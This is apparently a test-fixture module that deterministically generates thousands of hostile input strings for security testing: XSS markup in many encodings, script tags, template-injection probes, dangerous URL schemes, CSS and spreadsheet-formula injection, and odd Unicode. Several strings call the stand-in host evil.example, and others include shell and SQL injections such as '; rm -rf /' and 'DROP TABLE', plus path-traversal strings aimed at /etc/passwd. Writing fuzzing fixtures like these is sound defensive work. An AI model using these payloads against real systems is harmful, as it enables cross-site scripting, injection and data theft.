"""Thousands of texts that try to be more than text: markup, scripts, templates, styles, addresses, letters.

Deterministic: the same texts on every run, so that a failure can be repeated by its number.
"""

from itertools import product
from random import Random

from tests.thorough import THOROUGH

CODE = "window.hit=1"
TAGS = [
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "object data=x",
    "embed src=x",
    "body",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "details open",
    "marquee",
    "math",
    "style",
    "link rel=stylesheet href=x",
    "meta http-equiv=refresh content=0",
    "base href=//evil.example/",
    "form",
    "button autofocus",
    "table background=x",
    "td background=x",
    "a href=x tabindex=1 autofocus",
    "area",
    "xss",
    "template",
    "noscript",
    "frameset",
    "keygen autofocus",
    "isindex",
    "bgsound src=x",
    "layer src=x",
    "use href=x",
    "image src=x",
    "foreignObject",
    "animate attributeName=x",
    "set attributeName=x",
    "portal src=x",
    "dialog open",
]
EVENTS = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onstart",
    "onpointerenter",
    "onpageshow",
    "onscroll",
    "onresize",
    "onloadstart",
    "oncanplay",
    "onwheel",
    "ontransitionend",
    "onfocusin",
    "onblur",
    "onhashchange",
    "onpopstate",
    "onmessage",
    "onunload",
    "oncuechange",
    "onbeforeinput",
]
BEFORE = [
    "",
    '">',
    "'>",
    "`>",
    "</td>",
    "</tr></table>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "</bdi></td></tr></tbody></table></section></main>",
    '\\">',
    "x' ",
    'x" ',
    "<!--",
    "<![CDATA[",
    "&quot;>",
    "%22%3E",
    "{{",
    "</noscript>",
    "</template>",
    "</select>",
    "\x00",
    "\r\n\r\n",
    "\u2028",
    "\ufeff",
]


def plain(text: str) -> str:
    return text


def decimal(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(c):x}" for c in text)


def named(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def twice_named(text: str) -> str:
    return named(named(text))


def percent(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


def escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def mixed_case(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text))


def with_nulls(text: str) -> str:
    return text.replace("s", "s\x00").replace("o", "\x00o")


def with_tabs(text: str) -> str:
    return text.replace(" ", "\t/\n").replace("=", "\x0b=\x0c")


def full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def utf_7(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-")


ENCODINGS = [
    plain,
    plain,
    plain,
    decimal,
    hexadecimal,
    named,
    twice_named,
    percent,
    escaped,
    mixed_case,
    with_nulls,
    with_tabs,
    full_width,
    utf_7,
]


def markup() -> list[str]:
    """Every tag with every event, each in some context and some encoding."""
    random = Random(1791)
    found = []
    for tag, event in product(TAGS, EVENTS):
        for before in random.sample(BEFORE, 5):
            encode = random.choice(ENCODINGS)
            quote = random.choice(['"', "'", "", "`"])
            text = encode(f"<{tag} {event}={quote}{CODE}{quote}>")
            found.append(before + text)
    return found


SCRIPTS = [
    f"{before}{body}"
    for before in BEFORE
    for body in (
        f"<script>{CODE}</script>",
        "<script src=//evil.example/x.js></script>",
        f"<SCRIPT/x>{CODE}</SCRIPT>",
        f"<svg><script>{CODE}</script></svg>",
        f"<math><mtext><script>{CODE}</script>",
        "<iframe srcdoc='<script>parent.hit=1</script>'>",
        "<object data='data:text/html,<script>top.hit=1</script>'>",
        "<img src=//evil.example/pixel.gif>",
        "<link rel=prefetch href=//evil.example/>",
        "<style>@import'//evil.example/x'",
        "<style>*{display:none!important}",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;//evil.example/'>",
        "<form action=//evil.example/><input name=a>",
        "<plaintext>",
        "<xmp>",
        "<noembed>",
    )
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{% raw %}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.hit=1')()}}",
    "[[7*7]]",
    "@(7*7)",
    "*{7*7}",
    "%(name)s",
    "%s%n%x",
    "{0.__class__}",
    "{name}",
    "{n}",
    "{}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "'; DROP TABLE t; --",
]
ADDRESSES = [
    f"{scheme}{rest}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "&#106;avascript:",
        "vbscript:",
        "data:text/html,",
        "file:///",
        "//",
        "\\\\evil.example\\",
        "https://evil.example/",
        "blob:",
        "about:",
        "view-source:",
        "jar:",
        "intent:",
        "ftp://evil.example/",
        "http://evil.example@127.0.0.1/",
        "mailto:a@b.c?bcc=",
        "tel:",
        "ms-word:ofe|u|https://evil.example/",
    )
    for rest in (CODE, f"<script>{CODE}</script>", f"%0a{CODE}")
]
STYLES = [
    "expression(window.hit=1)",
    "url(//evil.example/x)",
    "}*{display:none}",
    "position:fixed;inset:0;z-index:9999",
    "style=display:none",
    "class=away",
    "hidden",
    "data-k=desk-0",
    "</style><style>*{color:red}",
    "@import '//evil.example'",
    "-moz-binding:url(//evil.example/x#y)",
    "behavior:url(x)",
    "content:attr(data-k)",
    "\\3c script\\3e",
]
FORMULAS = [
    f"{start}{rest}"
    for start in "=+-@\t\r\n"
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("//evil.example/","x")',
        "IMPORTXML(A1)",
        '"a","b"',
        "SUM(A1:A9)",
    )
]
LETTERS = [
    "",
    " ",
    "\t\r\n",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f\x9b",
    "\u202ereversed",
    "\u202d\u202e\u202a\u202b\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u200b" * 50,
    "\u200d\u200c\u2060",
    "\ufeff" * 9,
    "Z" + "\u0301" * 400,
    "\u0e49" * 90,
    "\ufdfd" * 40,
    "\u0b95\u0bcd" * 60,
    "\u12031" * 9,
    "\U000e0041\U000e0042",
    "\U0001f468\u200d\U0001f469\u200d\U0001f466" * 30,
    "\u05e9\u05dc\u05d5\u05dd <b>abc</b>",
    "\u0627\u0644\u0633\u0644\u0627\u0645 123 abc",
    "\u3164\u115f\u2800\uffa0",
    "\ufffe\uffff",
    "\U0010ffff",
    "\u2028\u2029",
    "\u00ad" * 40,
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306",
    "\u1160" * 30,
    "W" * 4000,
    "i" * 4000,
    "-" * 300,
    "a\u00a0" * 300,
    ("x" * 99 + " ") * 20,
    "\u4e00" * 500,
    "\U0001f525" * 300,
    'a/b\\c:d*e?f"g<h>i|j',
    "..",
    "../../etc/passwd",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "desk-1",
    "#t=desk-1",
    "?kiosk=1",
    "&amp;",
    "&lt",
    "&#60",
    "&",
    "<",
    ">",
    '"',
    "'",
    "Set-Cookie: a=b\r\nLocation: //evil.example",
    "a\r\nb\r\n\r\n<html>",
    "\x85\u0085next",
    "<" * 500,
    "&" * 500,
    '"' * 500,
]

ALL = [*LETTERS, *TEMPLATES, *STYLES, *ADDRESSES, *FORMULAS, *SCRIPTS, *markup()]
TEXTS = ALL if THOROUGH else sorted(Random(5).sample(ALL, len(ALL) // 4), key=ALL.index)
"""Every text, or of every kind some, always the same."""
ECHOES = [
    text for text in (*LETTERS, *TEMPLATES, *STYLES, *ADDRESSES[::4], *SCRIPTS[::25]) if 0 < len(text) < 90
]
"""Those short enough for an address, of every kind."""
